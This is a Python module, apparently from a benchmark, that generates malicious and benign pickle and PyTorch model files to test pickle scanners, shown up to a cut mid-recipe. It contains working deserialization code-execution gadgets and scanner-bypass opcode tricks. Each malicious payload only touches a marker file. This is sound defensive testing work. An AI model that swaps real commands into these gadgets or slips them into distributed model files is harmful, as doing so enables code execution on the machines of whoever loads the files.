"""Malicious and benign model files, built at run time, for the pickle-scanning benchmark.

Each :class:`Recipe` writes one file. A malicious recipe's payload only creates its marker
file (``touch MARKER``, ``open(MARKER, "w")``, ``subprocess`` with ``["touch", MARKER]``):
never the network, never a deletion. A recipe names the loader the file's consumers use
(``torch.load(weights_only=False)``, ``torch.export.load``, ``torch.jit.load``,
``numpy.load(allow_pickle=True)``, ``joblib.load``, ``pickle.load``); :func:`prove` runs that
loader on the file in a fresh child process and says whether the marker appeared.

The recipes follow the peers' public suites and the published bypasses; each cites its source:

- picklescan: ``tests/init_data_files.py`` and ``tests/test_scanner.py`` of
  github.com/mmaitre314/picklescan (the ``GHSA-*`` names are its security advisories);
- modelscan: ``tests/test_modelscan.py`` and ``tests/test_utils.py`` (``PickleInject``) of
  github.com/protectai/modelscan, and its issues #85, #263, #267, #330, #338;
- fickling: ``test/test_bypasses.py`` and ``test/test_polyglot.py`` of
  github.com/trailofbits/fickling (including the frame-boundary trick, CPython issue 154848);
- torch's own readers: ``torch/serialization.py`` (zip, legacy and ``.tar`` layouts),
  ``torch/export/pt2_archive/_package.py`` and ``torch/_export/serde/serialize.py`` (``.pt2``
  weights, constants and sample inputs), TorchScript ``__setstate__``.

Importing this module only fills the recipe tables; building a recipe imports what it pickles
by reference.
"""

from __future__ import annotations

import functools
import importlib.util
import io
import os
import pickle
import pickletools
import shlex
import struct
import subprocess
import sys
import tarfile
import time
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

# ------------------------------------------------------------------------------------------
# The recipe table


@dataclass(frozen=True)
class Ctx:
    """Where a recipe writes: its file, the marker its payload creates, a folder for helpers."""

    path: str
    marker: str
    aux: str

    @property
    def sh(self) -> str:
        return f"touch {shlex.quote(self.marker)}"

    @property
    def py(self) -> str:
        return f"open({self.marker!r}, 'w').close()"


@dataclass(frozen=True)
class Recipe:
    name: str
    family: str
    source: str  # where the technique comes from
    loader: str  # a key of LOADERS
    suffix: str
    build: Callable[[Ctx], None]
    malicious: bool = True
    needs: tuple[str, ...] = ()  # modules the recipe or its loader needs

    @property
    def filename(self) -> str:
        return self.name + self.suffix

    def missing(self) -> list[str]:
        """The modules of ``needs`` that are not installed."""
        out = []
        for mod in self.needs:
            try:
                if importlib.util.find_spec(mod) is None:
                    out.append(mod)
            except (ImportError, ValueError):
                out.append(mod)
        return out


MALICIOUS: list[Recipe] = []
BENIGN: list[Recipe] = []


def _recipe(
    name: str,
    family: str,
    source: str,
    loader: str,
    suffix: str,
    *,
    benign: bool = False,
    needs: tuple[str, ...] = (),
):
    def deco(fn: Callable[[Ctx], None]) -> Callable[[Ctx], None]:
        table = BENIGN if benign else MALICIOUS
        if any(r.name == name for r in MALICIOUS + BENIGN):
            raise ValueError(f"duplicate recipe {name}")
        table.append(Recipe(name, family, source, loader, suffix, fn, not benign, needs))
        return fn

    return deco


def _add(
    name: str,
    family: str,
    source: str,
    loader: str,
    suffix: str,
    fn: Callable[[Ctx], None],
    **kw: Any,
) -> None:
    _recipe(name, family, source, loader, suffix, **kw)(fn)


def all_recipes() -> list[Recipe]:
    return MALICIOUS + BENIGN


# ------------------------------------------------------------------------------------------
# Loaders: what each file's consumers call, run in a fresh child process

LOADERS: dict[str, str] = {
    "pickle": "import pickle\nwith open(p, 'rb') as f:\n    pickle.load(f)",
    # a consumer that reads a stream of pickled records until the end of the file
    "pickle-stream": (
        "import pickle\nwith open(p, 'rb') as f:\n    while f.peek(1):\n        pickle.load(f)"
    ),
    "torch": "import torch\ntorch.load(p, weights_only=False)",
    "torch-weights-only": "import torch\ntorch.load(p, weights_only=True)",
    "torch.export": "import torch\ntorch.export.load(p)",
    "torch.jit": "import torch\ntorch.jit.load(p)",
    "numpy": (
        "import numpy\nr = numpy.load(p, allow_pickle=True)\n"
        "if hasattr(r, 'files'):\n    [r[k] for k in r.files]"
    ),
    "joblib": "import joblib\njoblib.load(p)",
    "safetensors": "from safetensors.torch import load_file\nload_file(p)",
}

LOADER_CALLS = {
    "pickle": "pickle.load",
    "pickle-stream": "pickle.load until EOF",
    "torch": "torch.load(weights_only=False)",
    "torch-weights-only": "torch.load(weights_only=True)",
    "torch.export": "torch.export.load",
    "torch.jit": "torch.jit.load",
    "numpy": "numpy.load(allow_pickle=True)",
    "joblib": "joblib.load",
    "safetensors": "safetensors.torch.load_file",
}


@dataclass
class Proof:
    ran: bool  # the marker appeared (malicious) / the loader returned (benign)
    returncode: int | None
    detail: str  # the last line the loader printed, or "timeout"
    seconds: float


def prove(
    recipe: Recipe,
    ctx: Ctx,
    python: str = sys.executable,
    timeout: float = 120,
    env: dict[str, str] | None = None,
) -> Proof:
    """Load ``ctx.path`` with the recipe's real loader in a fresh child process."""
    code = "import sys\np = sys.argv[1]\n" + LOADERS[recipe.loader] + "\nprint('LOADED')"
    started = time.monotonic()
    try:
        done = subprocess.run(
            [python, "-c", code, ctx.path],
            cwd=ctx.aux,
            env=env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=timeout,
            errors="replace",
        )
        rc: int | None = done.returncode
        lines = (done.stdout + done.stderr).strip().splitlines()
        detail = lines[-1][:200] if lines else ""
    except subprocess.TimeoutExpired:
        rc, detail = None, "timeout"
    if recipe.malicious:
        for _ in range(20):  # a payload may start a child that touches the marker a bit later
            if os.path.exists(ctx.marker):
                break
            time.sleep(0.1)
        ran = os.path.exists(ctx.marker)
    else:
        ran = rc == 0 and not os.path.exists(ctx.marker)
    return Proof(ran, rc, detail, time.monotonic() - started)


# ------------------------------------------------------------------------------------------
# Pickle building blocks


class Call:
    """Pickles as ``fn(*args)``. Callable, so that a Call can itself be another's ``fn``."""

    def __init__(self, fn: Any, *args: Any) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.fn, self.args

    def __call__(self, *args: Any) -> Any:  # never called: only pickled
        raise TypeError("a Call is only pickled")


def _u(text: str) -> bytes:
    data = text.encode()
    if len(data) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def _sg(module: str, name: str) -> bytes:  # STACK_GLOBAL
    return _u(module) + _u(name) + pickle.STACK_GLOBAL


def _g(module: str, name: str) -> bytes:  # GLOBAL (protocol 0)
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def _v(text: str) -> bytes:  # UNICODE (protocol 0)
    return pickle.UNICODE + text.encode("raw_unicode_escape") + b"\n"


def _s(text: str) -> bytes:  # STRING (protocol 0, quoted)
    return pickle.STRING + repr(text).encode() + b"\n"


P2 = pickle.PROTO + b"\x02"
P4 = pickle.PROTO + b"\x04"
P5 = pickle.PROTO + b"\x05"
T1, T2, T3, R, STOP, MARK, POP = (
    pickle.TUPLE1,
    pickle.TUPLE2,
    pickle.TUPLE3,
    pickle.REDUCE,
    pickle.STOP,
    pickle.MARK,
    pickle.POP,
)
MEMO = pickle.MEMOIZE


def _bget(i: int) -> bytes:
    return pickle.BINGET + bytes([i])


def _write(ctx: Ctx, data: bytes) -> None:
    with open(ctx.path, "wb") as fh:
        fh.write(data)


def _dump(obj: Any, protocol: int = 4) -> bytes:
    return pickle.dumps(obj, protocol=protocol)


def _system(ctx: Ctx) -> bytes:
    """Opcodes (any protocol) that run ``os.system(touch MARKER)``, leaving its result."""
    return _g("os", "system") + _v(ctx.sh) + T1 + R


def _prepend(payload: bytes, stream: bytes) -> bytes:
    """``stream`` with ``payload`` run first (its result popped): what it returns is unchanged."""
    if stream[:1] == pickle.PROTO:
        return stream[:2] + payload + POP + stream[2:]
    return payload + POP + stream


def frame_trick(
    hidden: bytes, tail: bytes = pickle.NONE, proto: bytes = P5, offset: int = 0
) -> bytes:
    """fickling's test_frame_boundary_divergence (CPython issue 154848): a FRAME that claims
    2 bytes, a BINBYTES inside it that claims 0x107. A reader going frame by frame sees one
    long bytestring; CPython's C unpickler reading a file (``pickle.load``, ``torch.load``'s
    ``Unpickler(BytesIO)``) runs ``hidden``. ``tail`` follows: a real pickle's body (without
    PROTO and STOP) makes the stream return the real object. ``offset``: where the stream
    starts in its file (the padding must end at the same absolute offset of the file's read
    buffer)."""
    return (
        proto
        + pickle.NONE
        + pickle.UNICODE
        + b"a" * (8192 * 16 - 17 - offset)
        + b"\n"
        + POP
        + MARK
        + pickle.FRAME
        + struct.pack("<Q", 2)
        + pickle.BINBYTES
        + b"\x07\x01\x00\x00"
        + b"\x00\x00"
        + (hidden + MARK).ljust(256 + 5, pickle.NONE)
        + pickle.POP_MARK
        + tail
        + STOP
    )


def _body(stream: bytes) -> bytes:
    """A pickle without its PROTO header and final STOP."""
    start = 2 if stream[:1] == pickle.PROTO else 0
    if stream[-1:] != STOP:
        raise ValueError("not a single pickle")
    return stream[start:-1]


def split_pickles(data: bytes, count: int) -> tuple[list[bytes], bytes]:
    """The first ``count`` pickles of a concatenation, and the bytes after them."""
    fh = io.BytesIO(data)
    out = []
    for _ in range(count):
        start = fh.tell()
        for _op in pickletools.genops(fh):
            pass
        out.append(data[start : fh.tell()])
    return out, data[fh.tell() :]


# ------------------------------------------------------------------------------------------
# torch helpers


def _model_state() -> dict[str, Any]:
    import torch

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    return net.state_dict()


def _torch_bytes(obj: Any, **kw: Any) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


def _members(obj: Any, **kw: Any) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(_torch_bytes(obj, **kw))) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def _write_zip(
    target: Any,
    members: list[tuple[str, bytes]],
    comp: int = zipfile.ZIP_STORED,
    comment: bytes = b"",
    zip64: bool = False,
) -> None:
    with zipfile.ZipFile(target, "w", comp, allowZip64=True) as zf:
        for name, data in members:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # duplicate names are the point
                if zip64:
                    with zf.open(zipfile.ZipInfo(name), "w", force_zip64=True) as fh:
                        fh.write(data)
                else:
                    zf.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, comp)
        zf.comment = comment


def _zip_bytes(members: list[tuple[str, bytes]], **kw: Any) -> bytes:
    buf = io.BytesIO()
    _write_zip(buf, members, **kw)
    return buf.getvalue()


def _replace(
    members: list[tuple[str, bytes]], suffix: str, fn: Callable[[bytes], bytes]
) -> list[tuple[str, bytes]]:
    return [(n, fn(d) if n.endswith(suffix) else d) for n, d in members]


def _payload_sd(ctx: Ctx) -> dict[str, Any]:
    """A state dict with one extra entry whose unpickling runs the payload."""
    sd: dict[str, Any] = dict(_model_state())
    sd["_hook"] = Call(os.system, ctx.sh)
    return sd


def _mal_zip(ctx: Ctx) -> bytes:
    return _torch_bytes(_payload_sd(ctx))


# ------------------------------------------------------------------------------------------
# stdlib exec gadgets and the peers' raw pickles (loader: pickle.load)

PS = "picklescan tests/init_data_files.py"
PS_ADV = "picklescan advisory"
FK = "fickling test/test_bypasses.py"
MS = "modelscan tests/test_modelscan.py"


def _reg_reduce(
    name: str, family: str, source: str, make: Callable[[Ctx], Any], protocol: int = 4, **kw: Any
) -> None:
    _add(
        name,
        family,
        source,
        "pickle",
        ".pkl",
        lambda ctx: _write(ctx, _dump(make(ctx), protocol)),
        **kw,
    )


def _lazy(module: str, attr: str) -> Any:
    obj: Any = importlib.import_module(module)
    for part in attr.split("."):
        obj = getattr(obj, part)
    return obj


for _proto in (0, 3, 4):
    _reg_reduce(
        f"ps-malicious1-eval-v{_proto}",
        "stdlib-exec",
        f"{PS} Malicious1 (v{_proto})",
        lambda c: Call(eval, c.py),
        _proto,
    )
    _reg_reduce(
        f"ps-malicious2-os-system-v{_proto}",
        "stdlib-exec",
        f"{PS} Malicious2 (v{_proto})",
        lambda c: Call(os.system, c.sh),
        _proto,
    )

_reg_reduce(
    "ps-malicious8-subprocess-run",
    "stdlib-exec",
    f"{PS} Malicious7 (subprocess.run)",
    lambda c: Call(subprocess.run, ["touch", c.marker]),
)
for _proto in (0, 4):
    _reg_reduce(
        f"ps-malicious13-pickle-loads-v{_proto}",
        "stdlib-exec",
        f"{PS} Malicious13 (nested pickle.loads); modelscan issue #267",
        lambda c: Call(pickle.loads, _dump(Call(os.system, c.sh), 0)),
        _proto,
    )
_reg_reduce(
    "ps-malicious14-runpy-run-code",
    "stdlib-exec",
    f"{PS} Malicious14; modelscan tests/test_utils.py PickleInject.RunPy",
    lambda c: Call(_lazy("runpy", "_run_code"), c.py, {}),
)
for _proto in (2, 4):
    _reg_reduce(
        f"ps-malicious15-bdb-run-v{_proto}",
        "stdlib-exec",
        f"{PS} Malicious15 (bdb)",
        lambda c: Call(_lazy("bdb", "Bdb.run"), Call(_lazy("bdb", "Bdb")), c.py),
        _proto,
    )
_reg_reduce(
    "ps-malicious18-pydoc-pipepager",
    "stdlib-exec",
    f"{PS} Malicious18",
    lambda c: Call(_lazy("pydoc", "pipepager"), "", c.sh),
)
_reg_reduce(
    "ps-malicious21-timeit",
    "stdlib-exec",
    f"{PS} Malicious21",
    lambda c: Call(_lazy("timeit", "timeit"), "", c.py),
)
_reg_reduce(
    "ps-GHSA-5qwp-trace-run",
    "stdlib-exec",
    f"{PS_ADV} GHSA-5qwp-399c-mjwf",
    lambda c: Call(_lazy("trace", "Trace.run"), Call(_lazy("trace", "Trace"), 0, 0), c.py),
)
_reg_reduce(
    "ps-GHSA-g344-trace-runctx",
    "stdlib-exec",
    f"{PS_ADV} GHSA-g344-hcph-8vgg",
    lambda c: Call(
        _lazy("trace", "Trace.runctx"), Call(_lazy("trace", "Trace"), 0, 0), c.py, {}, {}
    ),
)
_reg_reduce(
    "ps-GHSA-x696-profile-run",
    "stdlib-exec",
    f"{PS_ADV} GHSA-x696-vm39-cp64",
    lambda c: Call(_lazy("profile", "Profile.run"), Call(_lazy("profile", "Profile")), c.py),
)
_reg_reduce(
    "ps-GHSA-6vqj-profile-runctx",
    "stdlib-exec",
    f"{PS_ADV} GHSA-6vqj-c2q5-j97w",
    lambda c: Call(
        _lazy("profile", "Profile.runctx"), Call(_lazy("profile", "Profile")), c.py, {}, {}
    ),
)
_reg_reduce(
    "ps-GHSA-f54q-lib2to3-grammar-loads",
    "stdlib-exec",
    f"{PS_ADV} GHSA-f54q-57x4-jg88",
    lambda c: Call(
        _lazy("lib2to3.pgen2.grammar", "Grammar.loads"),
        Call(_lazy("lib2to3.pgen2.grammar", "Grammar")),
        _dump(Call(os.system, c.sh)),
    ),
    needs=("lib2to3",),
)
_reg_reduce(
    "ps-GHSA-p9w7-lib2to3-make-label",
    "stdlib-exec",
    f"{PS_ADV} GHSA-p9w7-82w4-7q8m",
    lambda c: Call(
        _lazy("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
        None,
        Call(_lazy("lib2to3.pgen2.grammar", "Grammar")),
        '""+' + c.py,
    ),
    needs=("lib2to3",),
)
_reg_reduce(
    "ps-GHSA-9xph-idlelib-calltip-get-entity",
    "stdlib-exec",
    f"{PS_ADV} GHSA-9xph-j2h6-g47v",
    lambda c: Call(_lazy("idlelib.calltip", "get_entity"), c.py),
    needs=("tkinter",),
)
_reg_reduce(
    "ps-GHSA-fqq6-doctest-debug-script",
    "stdlib-exec",
    f"{PS_ADV} GHSA-fqq6-7vqf-w3fg",
    lambda c: Call(_lazy("doctest", "debug_script"), c.py, True),
)
_reg_reduce(
    "ps-GHSA-9w88-cprofile-runctx",
    "stdlib-exec",
    f"{PS_ADV} GHSA-9w88-8rmg-7g2p",
    lambda c: Call(_lazy("cProfile", "runctx"), c.py, None, None),
)
_reg_reduce(
    "ps-GHSA-49gj-cprofile-run",
    "stdlib-exec",
    f"{PS_ADV} GHSA-49gj-c84q-6qm9",
    lambda c: Call(_lazy("cProfile", "run"), c.py),
)
_reg_reduce(
    "ps-GHSA-7wx9-profile-run",
    "stdlib-exec",
    f"{PS_ADV} GHSA-7wx9-6375-f5wh",
    lambda c: Call(_lazy("profile", "run"), c.py),
)
_reg_reduce(
    "ps-GHSA-q77w-asyncio-subprocess-start",
    "stdlib-exec",
    f"{PS_ADV} GHSA-q77w-mwjj-7mqx (also fickling test_asyncio_subprocess)",
    lambda c: Call(
        _lazy("asyncio.unix_events", "_UnixSubprocessTransport._start"),
        {},
        c.sh,
        True,
        None,
        None,
        None,
        0,
    ),
)
_reg_reduce(
    "ps-GHSA-m273-distutils-write-file",
    "stdlib-exec",
    f"{PS_ADV} GHSA-m273-6v24-x4m4",
    lambda c: Call(_lazy("distutils.file_util", "write_file"), c.marker, ["x"]),
    needs=("distutils",),
)
_reg_reduce(
    "ps-GHSA-84r2-pydoc-locate-methodcaller",
    "stdlib-exec",
    f"{PS_ADV} GHSA-84r2-jw7c-4r5q",
    lambda c: Call(
        _lazy("operator", "methodcaller")("system", c.sh), Call(_lazy("pydoc", "locate"), "os")
    ),
)
_reg_reduce(
    "ps-GHSA-vqmv-pty-spawn",
    "stdlib-exec",
    f"{PS_ADV} GHSA-vqmv-47xg-9wpr",
    lambda c: Call(_lazy("pty", "spawn"), ["touch", c.marker]),
)
_reg_reduce(
    "ps-GHSA-vvpj-pkgutil-resolve-name",
    "stdlib-exec",
    f"{PS_ADV} GHSA-vvpj-8cmc-gx39",
    lambda c: Call(Call(_lazy("pkgutil", "resolve_name"), "os:system"), c.sh),
)
_reg_reduce(
    "ps-GHSA-g38g-uuid-get-command-stdout",
    "stdlib-exec",
    f"{PS_ADV} GHSA-g38g-8gr9-h9xp (uuid)",
    lambda c: Call(_lazy("uuid", "_get_command_stdout"), "touch", c.marker),
)
_reg_reduce(
    "ps-GHSA-g38g-osx-support-read-output",
    "stdlib-exec",
    f"{PS_ADV} GHSA-g38g-8gr9-h9xp (_osx_support)",
    lambda c: Call(_lazy("_osx_support", "_read_output"), c.sh),
)
_reg_reduce(
    "ps-GHSA-g38g-imaplib-imap4-stream",
    "stdlib-exec",
    f"{PS_ADV} GHSA-g38g-8gr9-h9xp (imaplib)",
    lambda c: Call(_lazy("imaplib", "IMAP4_stream"), c.sh),
)
_reg_reduce(
    "ps-GHSA-g38g-test-support-assert-python-ok",
    "stdlib-exec",
    f"{PS_ADV} GHSA-g38g-8gr9-h9xp (test.support.script_helper)",
    lambda c: Call(_lazy("test.support.script_helper", "assert_python_ok"), "-c", c.py),
    needs=("test.support.script_helper",),
)
_reg_reduce(
    "ps-io-fileio",
    "stdlib-exec",
    f"{PS} reduce_io_FileIO (write mode)",
    lambda c: Call(io.FileIO, c.marker, "w"),
)
_reg_reduce(
    "ps-logging-filehandler",
    "stdlib-exec",
    f"{PS} reduce_logging_FileHandler",
    lambda c: Call(_lazy("logging", "FileHandler"), c.marker),
)
_reg_reduce(
    "stdlib-subprocess-popen",
    "stdlib-exec",
    "modelscan tests: subprocess family",
    lambda c: Call(subprocess.Popen, ["touch", c.marker]),
)
_reg_reduce(
    "stdlib-subprocess-check-output",
    "stdlib-exec",
    "modelscan tests: subprocess family",
    lambda c: Call(subprocess.check_output, ["touch", c.marker]),
)
_reg_reduce(
    "stdlib-subprocess-getoutput",
    "stdlib-exec",
    "modelscan tests: subprocess family",
    lambda c: Call(subprocess.getoutput, c.sh),
)
_reg_reduce(
    "stdlib-os-popen",
    "stdlib-exec",
    "picklescan _unsafe_globals os.*",
    lambda c: Call(os.popen, c.sh),
)
_reg_reduce(
    "stdlib-os-spawnlp",
    "stdlib-exec",
    "picklescan _unsafe_globals os.*",
    lambda c: Call(os.spawnlp, os.P_WAIT, "touch", "touch", c.marker),
)
_reg_reduce(
    "stdlib-builtins-exec", "stdlib-exec", "modelscan PickleInject.Exec", lambda c: Call(exec, c.py)
)
_reg_reduce(
    "stdlib-builtins-open",
    "stdlib-exec",
    "file write through builtins.open",
    lambda c: Call(open, c.marker, "w"),
)
_reg_reduce(
    "stdlib-functools-partial",
    "stdlib-exec",
    "fickling UNSAFE_IMPORTS functools.partial; picklescan Malicious19",
    lambda c: Call(functools.partial(os.system, c.sh)),
)
_reg_reduce(
    "stdlib-operator-methodcaller-pathlib-touch",
    "stdlib-exec",
    "picklescan GHSA-955r-x9j8-7rhh (methodcaller); a pathlib write",
    lambda c: Call(
        _lazy("operator", "methodcaller")("touch"), Call(_lazy("pathlib", "Path"), c.marker)
    ),
)
_reg_reduce(
    "stdlib-pathlib-touch-dotted",
    "stdlib-exec",
    "fickling GHSA-5j3x-jp52-966f (dotted attribute of a stdlib class)",
    lambda c: Call(_lazy("pathlib", "Path.touch"), Call(_lazy("pathlib", "Path"), c.marker)),
)
_reg_reduce(
    "stdlib-code-interactive-console-push",
    "stdlib-exec",
    "fickling test_missing_code (code.InteractiveConsole)",
    lambda c: Call(
        _lazy("code", "InteractiveConsole.push"), Call(_lazy("code", "InteractiveConsole")), c.py
    ),
)
_reg_reduce(
    "stdlib-multiprocessing-spawnv-passfds",
    "stdlib-exec",
    "fickling test_missing_multiprocessing; modelscan issue #338",
    lambda c: Call(
        _lazy("multiprocessing.util", "spawnv_passfds"),
        b"/bin/sh",
        [b"/bin/sh", b"-c", c.sh.encode()],
        (),
    ),
)
_reg_reduce(
    "stdlib-osx-support-find-build-tool",
    "stdlib-exec",
    "fickling test_missing_osx_support (GHSA-5hwf-rc88-82xm)",
    lambda c: Call(_lazy("_osx_support", "_find_build_tool"), f"x; {c.sh} #"),
)


@_recipe(
    "stdlib-cloudpickle-function",
    "stdlib-exec",
    f"{PS} initialize_cloudpickle_exploit_file (a function pickled by value)",
    "pickle",
    ".pkl",
    needs=("cloudpickle",),
)
def _(ctx: Ctx) -> None:
    import cloudpickle

    namespace: dict[str, Any] = {}
    exec(
        "def obfuscated(src):\n    import builtins\n    getattr(builtins, 'exec')(src)\n", namespace
    )  # a function of no module: cloudpickle writes its code into the file
    _write(ctx, cloudpickle.dumps(Call(namespace["obfuscated"], ctx.py)))


@_recipe(
    "ps-malicious0-sour-pickles",
    "stdlib-exec",
    f"{PS} malicious0 (BH US 11 Sour Pickles: globals/compile/eval/getattr chain)",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    code = ctx.py.replace("'", '"')
    _write(
        ctx,
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'"
        + code.encode()
        + b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0"
        b"c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0g102\n.",
    )


@_recipe(
    "ps-malicious10-inst-exec",
    "opcode-tricks",
    f"{PS} malicious10 (INST, protocol 0)",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(ctx, b"(" + _s(ctx.py) + b"i__builtin__\nexec\n.")


def _memo_stack_global(ctx: Ctx, trailing: bytes = b"") -> bytes:
    # the Capture-the-Flag 'Misc/Safe Pickle' file (picklescan issue #22): the names reach
    # STACK_GLOBAL through the memo, and a torch.LongStorage decoy sits beside them
    return b"".join(
        [
            _v("os"),
            pickle.PUT + b"2\n",
            POP,
            _v("system"),
            pickle.PUT + b"3\n",
            POP,
            _v("torch"),
            pickle.PUT + b"0\n",
            POP,
            _v("LongStorage"),
            pickle.PUT + b"1\n",
            POP,
            pickle.GET + b"2\n",
            pickle.GET + b"3\n",
            pickle.STACK_GLOBAL,
            MARK,
            _v(ctx.sh),
            pickle.TUPLE,
            R,
            STOP,
            trailing,
        ]
    )


_add(
    "ps-malicious11-memo-stack-global",
    "opcode-tricks",
    f"{PS} malicious11 (picklescan issue #22, STACK_GLOBAL via memo)",
    "pickle",
    ".pkl",
    lambda c: _write(c, _memo_stack_global(c)),
)
_add(
    "ps-malicious-invalid-bytes",
    "opcode-tricks",
    f"{PS} malicious-invalid-bytes (junk after STOP); modelscan malicious14",
    "pickle",
    ".pkl",
    lambda c: _write(c, _memo_stack_global(c, b"\n\n\t\t")),
)
_add(
    "ps-malicious6-second-pickle",
    "opcode-tricks",
    f"{PS} malicious6 (benign pickle, then a malicious one)",
    "pickle-stream",
    ".pkl",
    lambda c: _write(c, _dump(["a", "b", "c"], 3) + _dump(Call(os.system, c.sh), 3)),
)
_add(
    "ps-malicious23-string-stack-global",
    "opcode-tricks",
    "picklescan advisory GHSA-9gvj-pp9x-gcfr (STRING args to STACK_GLOBAL)",
    "pickle",
    ".pkl",
    lambda c: _write(c, _s("os") + _s("system") + pickle.STACK_GLOBAL + _s(c.sh) + T1 + R + STOP),
)
_add(
    "ps-keyerror-exploit",
    "opcode-tricks",
    f"{PS} keyerror-exploit (bad memo after payload)",
    "pickle",
    ".pkl",
    lambda c: _write(
        c,
        P4
        + _system(c)
        + POP
        + _u("os")
        + MEMO
        + _bget(3)
        + _bget(0)
        + pickle.STACK_GLOBAL
        + pickle.BININT1
        + b"\x42"
        + STOP,
    ),
)
_add(
    "ps-type-confusion-exploit",
    "opcode-tricks",
    f"{PS} type-confusion-exploit",
    "pickle",
    ".pkl",
    lambda c: _write(
        c,
        P4
        + _system(c)
        + POP
        + pickle.BININT
        + b"\x2a\x00\x00\x00"
        + MEMO
        + _u("os")
        + MEMO
        + _bget(0)
        + _bget(1)
        + pickle.STACK_GLOBAL
        + pickle.BININT1
        + b"\x42"
        + STOP,
    ),
)


@_recipe(
    "ps-sys-module-override",
    "opcode-tricks",
    "picklescan tests/data/sys_module_override_sploit.pkl (BUILD on a module, then "
    "STACK_GLOBAL of names read back from it)",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        b"".join(
            [
                P4,
                _v("torch._utils"),
                MEMO,
                _v("_rebuild_tensor"),
                MEMO,
                pickle.STACK_GLOBAL,
                MEMO,
                POP,
                _v("torch"),
                _v("_utils"),
                pickle.STACK_GLOBAL,
                MEMO,
                POP,
                _bget(3),
                pickle.EMPTY_DICT,
                _bget(1),
                _v("builtins"),
                pickle.SETITEM,
                pickle.BUILD,
                POP,
                _bget(0),
                _bget(1),
                pickle.STACK_GLOBAL,
                _bget(3),
                pickle.EMPTY_DICT,
                _bget(1),
                _v("exec"),
                pickle.SETITEM,
                pickle.BUILD,
                POP,
                _bget(0),
                _bget(1),
                pickle.STACK_GLOBAL,
                pickle.STACK_GLOBAL,
                _v(ctx.py),
                T1,
                R,
                STOP,
            ]
        ),
    )


@_recipe(
    "ps-GHSA-955r-operator-methodcaller",
    "stdlib-exec",
    "picklescan tests/data2/GHSA-955r-x9j8-7rhh.pkl; fickling test_operator_methodcaller",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        _g("builtins", "__import__")
        + MARK
        + _v("os")
        + pickle.TUPLE
        + R
        + pickle.PUT
        + b"0\n"
        + POP
        + _g("_operator", "methodcaller")
        + MARK
        + _v("system")
        + _v(ctx.sh)
        + pickle.TUPLE
        + R
        + MARK
        + pickle.GET
        + b"0\n"
        + pickle.TUPLE
        + R
        + STOP,
    )


@_recipe(
    "ps-GHSA-46h3-operator-attrgetter",
    "stdlib-exec",
    "picklescan tests/data2/GHSA-46h3-79wf-xr6c.pkl",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        _g("builtins", "__import__")
        + MARK
        + _v("os")
        + pickle.TUPLE
        + R
        + pickle.PUT
        + b"0\n"
        + POP
        + _g("_operator", "attrgetter")
        + MARK
        + _v("system")
        + pickle.TUPLE
        + R
        + MARK
        + pickle.GET
        + b"0\n"
        + pickle.TUPLE
        + R
        + MARK
        + _v(ctx.sh)
        + pickle.TUPLE
        + R
        + STOP,
    )


@_recipe(
    "ms-malicious12-pickle-loads-binbytes",
    "stdlib-exec",
    f"{MS} malicious12_gen (pickle.loads of BINBYTES)",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    inner = P5 + _system(ctx) + STOP
    _write(
        ctx,
        P5
        + _g("pickle", "loads")
        + pickle.BINBYTES
        + struct.pack("<I", len(inner))
        + inner
        + T1
        + R
        + POP
        + pickle.NONE
        + STOP,
    )


@_recipe(
    "ms-malicious13-eval-call-dotted",
    "opcode-tricks",
    f"{MS} malicious13_gen (GLOBAL 'builtins eval.__call__')",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(ctx, P5 + _g("builtins", "eval.__call__") + _v(ctx.py) + T1 + R + STOP)


# fickling's test_bypasses, payloads pointed at the marker


@_recipe(
    "fk-GHSA-r7v6-pty-spawn-build",
    "stdlib-exec",
    f"{FK} test_missing_pty_unsafe_imports_ghsa",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        P4
        + _sg("pty", "spawn")
        + MEMO
        + pickle.EMPTY_LIST
        + MARK
        + _u("touch")
        + _u(ctx.marker)
        + pickle.APPENDS
        + T1
        + R
        + MEMO
        + _u("gottem")
        + pickle.BUILD
        + STOP,
    )


@_recipe(
    "fk-pr108-pty-spawn-obj",
    "opcode-tricks",
    f"{FK} test_missing_pty_unsafe_imports_pr (OBJ)",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        MARK
        + _g("pty", "spawn")
        + MARK
        + _s("touch")
        + _s(ctx.marker)
        + pickle.LIST
        + pickle.OBJ
        + STOP,
    )


@_recipe(
    "fk-GHSA-565g-marshal-functiontype",
    "stdlib-exec",
    f"{FK} test_missing_marshal_and_types",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    import marshal

    code = marshal.dumps(compile(ctx.py, "<string>", "exec"))
    _write(
        ctx,
        b"".join(
            [
                P4,
                _sg("marshal", "loads"),
                MEMO,
                _bget(0),
